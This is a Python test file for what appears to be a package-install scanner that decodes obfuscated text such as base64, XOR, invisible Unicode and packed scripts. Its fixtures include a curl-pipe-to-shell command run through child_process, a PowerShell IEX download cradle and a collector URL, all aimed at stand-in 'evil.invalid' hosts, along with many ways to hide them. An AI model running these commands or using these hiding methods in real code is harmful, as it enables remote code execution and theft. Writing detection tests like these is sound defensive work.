"""Text in disguise is decoded, and what only looks like it is left alone."""

from __future__ import annotations

import base64
import codecs
import gzip
import random
import zlib

import pytest

from safe_install.model import Language
from safe_install.scan.unfold.unfold import MOST_BYTES, MOST_LAYERS, unfold

CODE = b'require("child_process").exec("curl https://evil.invalid/x | sh")'
ADDRESS = b"https://evil.invalid/collect"
WASM = b"\0asm" + random.Random(1).randbytes(9000)
HOST = b"evil-collector.invalid"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def in_pieces(text: str, size: int = 9) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def listed(texts: list[str]) -> str:
    return ",".join(f'"{text}"' for text in texts)


def xored(data: bytes, key: bytes) -> bytes:
    return bytes(byte ^ key[at % len(key)] for at, byte in enumerate(data))


def texts(written: str | bytes, language: Language = Language.JAVASCRIPT) -> list[bytes]:
    source = written.encode() if isinstance(written, str) else written
    return [layer.content for layer in unfold(source, language)]


@pytest.mark.parametrize(
    "written",
    [
        f'eval(atob("{b64(CODE)}"))',
        f"x = `{base64.urlsafe_b64encode(CODE).decode().rstrip('=')}`",
        f"import('data:text/javascript;base64,{b64(CODE)}')",
        f"/* don't */ x = '{b64(CODE)}'",
        f'x = "{b64(b64(CODE).encode())}"',
        f'x = "{b64(b64(b64(CODE).encode()).encode())}"',
        f'x = "zz{b64(CODE)}".slice(2)',
        f'x = "{b64(CODE)[::-1]}"',
        f'x = "{"#".join(in_pieces(b64(CODE)))}".replace(/#/g, "")',
        f"x = \"{b64(CODE)[:20]}\" +\n  '{b64(CODE)[20:]}'",
        f"x = [{listed(in_pieces(b64(CODE)))}].join('')",
        f"x = [{listed(in_pieces(b64(CODE))[::-1])}].reverse().join('')",
        "\n".join(f"s += '{piece}';" for piece in in_pieces(b64(CODE))),
        "\n".join(f"s.push('{piece}');" for piece in in_pieces(b64(CODE))),
        "cat <<E\n" + "\n".join(in_pieces(b64(CODE * 5), 76)) + "\nE",
    ],
)
def test_base64_is_decoded_however_it_is_written(written: str) -> None:
    assert any(CODE in text for text in texts(written))


@pytest.mark.parametrize(
    "written",
    [
        f'x = "{CODE.hex()}"',
        f'{{"data": "{CODE.hex()}"}}',
        'x = "' + "".join(f"\\x{byte:02x}" for byte in CODE) + '"',
        'x = "' + "".join(f"\\u{byte:04x}" for byte in CODE) + '"',
        "printf '" + "".join(f"\\{byte:03o}" for byte in CODE) + "' | sh",
        "x = [" + ",".join(map(str, CODE)) + "]",
        "x = [" + ", ".join(map(hex, CODE)) + "]",
        "x = [" + ",".join(str(byte + 1000) for byte in CODE) + "]",
        'x = "' + "-".join(map(str, CODE)) + '".split("-")',
        'x = "' + " ".join(f"{byte:08b}" for byte in CODE) + '"',
        "x = " + repr(CODE.decode()[::-1]),
        'x = "' + "".join(f"%{byte:02x}" for byte in CODE) + '"',
        'x = "' + "".join(f"&#{byte};" for byte in CODE) + '"',
        f'x = "{b64(gzip.compress(CODE * 9))}"',
        f'x = "{b64(zlib.compress(CODE * 9))}"',
        f'x = "{b64(CODE)[::-1].encode().hex()}"',
    ],
)
def test_other_encodings_are_decoded(written: str) -> None:
    assert any(CODE in text for text in texts(written))


@pytest.mark.parametrize(
    "written",
    [
        "x = '" + codecs.encode(ADDRESS.decode(), "rot13") + "'",
        "x = '" + "".join(chr(byte + 3) for byte in ADDRESS) + "'",
        f'x = "{b64(xored(ADDRESS, b"Z"))}"',
        f'x = "{b64(xored(ADDRESS, b"M")[::-1])[::-1]}"',
        'x = "' + "".join(f"\\x{byte ^ 33:02x}" for byte in ADDRESS) + '"',
        "x = [" + ",".join(str((byte + 200) % 256) for byte in ADDRESS) + "]",
        f'k = "s3cr3t"; f = c => c ^ k.charCodeAt(i % 6); x = "{b64(xored(ADDRESS, b"s3cr3t"))}"',
    ],
)
def test_a_cipher_with_a_short_key_is_broken(written: str) -> None:
    assert any(ADDRESS in text for text in texts(written))


@pytest.mark.parametrize(
    "written",
    [
        "k = 0x5a; x = [" + ",".join(str(byte ^ 0x5A) for byte in HOST) + "].map(c => c ^ k)",
        "x = [" + ",".join(str(byte + 7) for byte in HOST) + "].map(c => String.fromCharCode(c - 7))",
    ],
)
def test_a_mere_host_is_found_with_a_number_of_the_same_file(written: str) -> None:
    assert HOST in texts(written)


@pytest.mark.parametrize(
    "hidden",
    [
        "".join(chr(0xE0100 + byte - 16) for byte in CODE),
        "".join(chr(0xE0000 + byte) for byte in CODE),
        "".join(chr(0xE000 + byte) for byte in CODE),
        "".join("\u200b\u200c"[int(bit)] for byte in CODE for bit in f"{byte:08b}"),
        "".join("\u200c\u2063"[int(bit)] for byte in CODE for bit in f"{byte:07b}"),
        "".join(" \t"[int(bit)] for byte in CODE for bit in f"{byte:08b}"),
    ],
)
def test_invisible_characters_are_read(hidden: str) -> None:
    assert any(CODE in text for text in texts(f"x = decode(`{hidden}`)"))


def test_a_command_for_powershell_is_read_in_its_sixteen_bits() -> None:
    hidden = b64("IEX (New-Object Net.WebClient).DownloadString(1)".encode("utf-16-le"))
    (layer,) = unfold(f"powershell -enc {hidden}".encode(), Language.SHELL)
    assert (layer.language, layer.how) == (Language.POWERSHELL, "base64, UTF-16")


def test_a_packed_script_has_its_words_back() -> None:
    packed = "eval(function(p,a,c,k,e,d){return p}('0(\"1\").2(\"3 4\")',5,5,'require|child_process|exec|curl|http'.split('|'),0,{}))"
    assert b'require("child_process").exec("curl http")' in texts(packed)


@pytest.mark.parametrize("encode", [str, lambda text: b64(text.encode()).swapcase()])
def test_an_obfuscators_list_of_strings_is_joined(encode: object) -> None:
    assert callable(encode)
    names = listed([encode(text) for text in ("child_proc", "ess", "https://ev", "il.invalid", "exec")])
    written = f"var _0xab12 = [{names}];" + "_0xab12(0x1);" * 12
    assert any(b"https://evil.invalid" in text for text in texts(written))


@pytest.mark.parametrize(
    ("text", "language"),
    [
        (b"const a = require('fs'); a.x()", Language.JAVASCRIPT),
        (b"require('child_process').exec('curl x | sh')", Language.JAVASCRIPT),
        (b"curl -s https://example.invalid | sh", Language.SHELL),
        (b"#!/usr/bin/env python3\nprint(1)  # https://example.invalid", Language.PYTHON),
        (b"import os\nos.environ['A']  # x", Language.PYTHON),
        (b"$x = New-Object Net.WebClient", Language.POWERSHELL),
        (b"@echo off\r\ncurl https://example.invalid", Language.BATCH),
        (b"https://example.invalid/path", Language.TEXT),
    ],
)
def test_the_language_of_a_layer_is_guessed(text: bytes, language: Language) -> None:
    (layer,) = unfold(f'x = "{text.hex()}"'.encode(), Language.JAVASCRIPT)
    assert layer.language is language


def test_a_layer_says_where_and_how_it_was_hidden() -> None:
    (layer,) = unfold(f'a();\r\nb();\n  x = "{b64(gzip.compress(CODE))}"'.encode(), Language.JAVASCRIPT)
    assert (layer.line, layer.how, layer.content) == (3, "base64, gzip", CODE)


def test_a_layer_below_a_layer_is_the_callers_to_unfold() -> None:
    inner = f'eval(atob("{b64(CODE)}"))'.encode()
    (layer,) = unfold(f'eval(atob("{b64(inner)}"))'.encode(), Language.JAVASCRIPT)
    assert layer.content == inner
    assert texts(layer.content) == [CODE]


def test_a_file_in_sixteen_bits_is_unfolded_too() -> None:
    assert texts(b"\xff\xfe" + f'x = "{b64(CODE)}"'.encode("utf-16-le"), Language.POWERSHELL) == [CODE]


@pytest.mark.parametrize(
    "written",
    [
        f'wasm = "{b64(WASM)}"',
        f'font = "data:font/woff2;base64,{b64(random.Random(2).randbytes(9000))}"',
        "table = [" + ",".join(map(str, random.Random(3).randbytes(3000))) + "]",
        "crc = [0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f, 0xe963a535, 0x9e6495a3, 0x0edb8832]",
        "'\\u001b[96mThank you for using this (\\u001b[94m https://example.test \\u001b[96m)\\u001b[0m'",
        "const integrity = 'sha512-" + b64(random.Random(4).randbytes(64)) + "'",
        "id = '0123456789abcdef0123456789abcdef01234567'",
        'letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="',
        "url = 'https://example.test/a%20b%2Fc%3Fd%3De%26f'",
        "pkgs = ['getOwnPropertyDescriptor', 'hasOwnPropertyDescriptors', 'node_modules/.bin/somewhere']",
        "const f = (a, b) => a ^ b; const t = [1, 2, 4, 8, 16, 32, 64, 128, 27, 54];",
        "PROCESS.HTTPS://EXAMPLE.TEST/",
    ],
)
def test_what_honest_files_hold_is_no_layer(written: str) -> None:
    assert texts(written) == []


@pytest.mark.parametrize(
    "written",
    [
        b"",
        b"\\",
        b"'" * 1000,
        b'"\\' * 50_000,
        b"\\`" * 50_000,
        b"a" * 200_000,
        b"1," * 100_000,
        b"\xff" * 1000,
        b"\\x" * 50_000,
        b"%4" * 50_000,
        ("\u200b\u200c" * 20_000).encode(),
        b"}('0 1',62,1,'a|b'.split('|'" * 3000,
        b"x = '" + base64.b64encode(zlib.compress(b"a" * (1 << 22))) + b"'",
    ],
)
def test_nothing_is_refused_and_nothing_runs_away(written: bytes) -> None:
    for language in (Language.JAVASCRIPT, Language.SHELL, Language.TEXT):
        assert len(unfold(written, language)) <= MOST_LAYERS


def test_layers_are_bounded() -> None:
    many = ";".join(f'x = "{b64(CODE + str(number).encode())}"' for number in range(600))
    assert len(texts(many)) == MOST_LAYERS
    bombs = ";".join(f'x = "{b64(gzip.compress(CODE + bytes([number]) * MOST_BYTES))}"' for number in range(65, 70))
    assert sum(map(len, texts(bombs))) <= MOST_BYTES


def test_a_piece_that_hid_nothing_in_one_file_is_looked_into_again_where_it_is_written_otherwise() -> None:
    assert texts(f'x = "{ADDRESS.decode()}"') == []
    assert ADDRESS in texts(f"y = [{','.join(map(str, ADDRESS))}]")


def test_a_piece_that_hid_nothing_in_one_file_is_looked_into_again_where_there_is_a_key() -> None:
    hidden = f'x = "{b64(xored(ADDRESS, b"k3y!"))}"'
    assert texts(hidden) == []
    assert ADDRESS in texts(f'{hidden}; k = "k3y!"; c.charCodeAt(i) ^ k.charCodeAt(j)')
